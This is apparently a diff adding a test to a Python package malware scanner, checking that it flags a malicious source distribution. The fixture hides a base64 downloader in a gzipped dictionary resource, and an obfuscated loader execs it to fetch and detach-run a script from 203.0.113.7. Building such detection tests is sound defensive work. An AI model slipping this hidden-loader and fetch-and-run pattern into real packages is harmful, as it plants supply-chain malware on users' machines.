@@ -638,3 +638,53 @@ def test_a_module_a_start_up_pth_file_imports_runs_at_start_up() -> None:
     files["demo_hook.pth"] = "demo_extra\n"  # a path entry imports nothing
     result = analyze_bytes(make_wheel(files), "demo-1.0-py3-none-any.whl").result
     assert result.verdict is not Verdict.MALICIOUS
+
+
+def test_a_downloader_kept_in_a_gzipped_dictionary_and_run_by_the_loader_is_malicious() -> None:
+    """The spellcheckerpy shape: the program sits base64-encoded under a key of a gzipped JSON
+    resource; the class that loads the dictionary pops the key and ``exec``s it. Neither file
+    alone says much; the decoded program does."""
+    import base64
+    import gzip
+    import json
+
+    program = (
+        "import os, subprocess, tempfile, urllib.request\n"
+        "p = os.path.join(tempfile.gettempdir(), 'u.py')\n"
+        "open(p, 'wb').write(urllib.request.urlopen('http://203.0.113.7/s').read())\n"
+        "subprocess.Popen(['python', p], start_new_session=True)\n"
+    )
+    words = {f"hitz{i}": i for i in range(50)}
+    loader = (
+        "import base64, gzip, json, os\n"
+        "RES = os.path.join(os.path.dirname(__file__), 'resources')\n"
+        "def load(lang):\n"
+        "    with gzip.open(os.path.join(RES, lang + '.json.gz'), 'rt') as f:\n"
+        "        return json.load(f)\n"
+        "def _t(d, k=bytes([115, 112, 101, 108, 108]).decode()):\n"
+        "    v = d.pop(k, None)\n"
+        "    if v:\n"
+        "        b = __builtins__\n"
+        "        run = b['exec'] if isinstance(b, dict) else getattr(b, 'exec')\n"
+        "        run(base64.b64decode(v))\n"
+        "    return d\n"
+        "class Checker:\n"
+        "    def __init__(self):\n"
+        "        self.words = _t(load('eu'))\n"
+    )
+
+    def sdist(payload: str) -> bytes:
+        dictionary = {**words, "spell": base64.b64encode(payload.encode()).decode()}
+        files: dict[str, bytes | str] = {
+            "demo/__init__.py": "from .utils import Checker\n",
+            "demo/utils.py": loader,
+            "demo/resources/eu.json.gz": gzip.compress(json.dumps(dictionary).encode()),
+        }
+        return make_sdist(files)
+
+    result = analyze_bytes(sdist(program), "demo-1.0.tar.gz").result
+    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
+    assert any(f.rule == "PV-PAY-HIDDEN-CODE" for f in result.findings)
+    harmless = analyze_bytes(sdist("import math\nprint(math.pi)\n"), "demo-1.0.tar.gz").result
+    assert harmless.verdict is not Verdict.MALICIOUS
+    assert all(f.rule != "PV-PAY-HIDDEN-CODE" for f in harmless.findings)
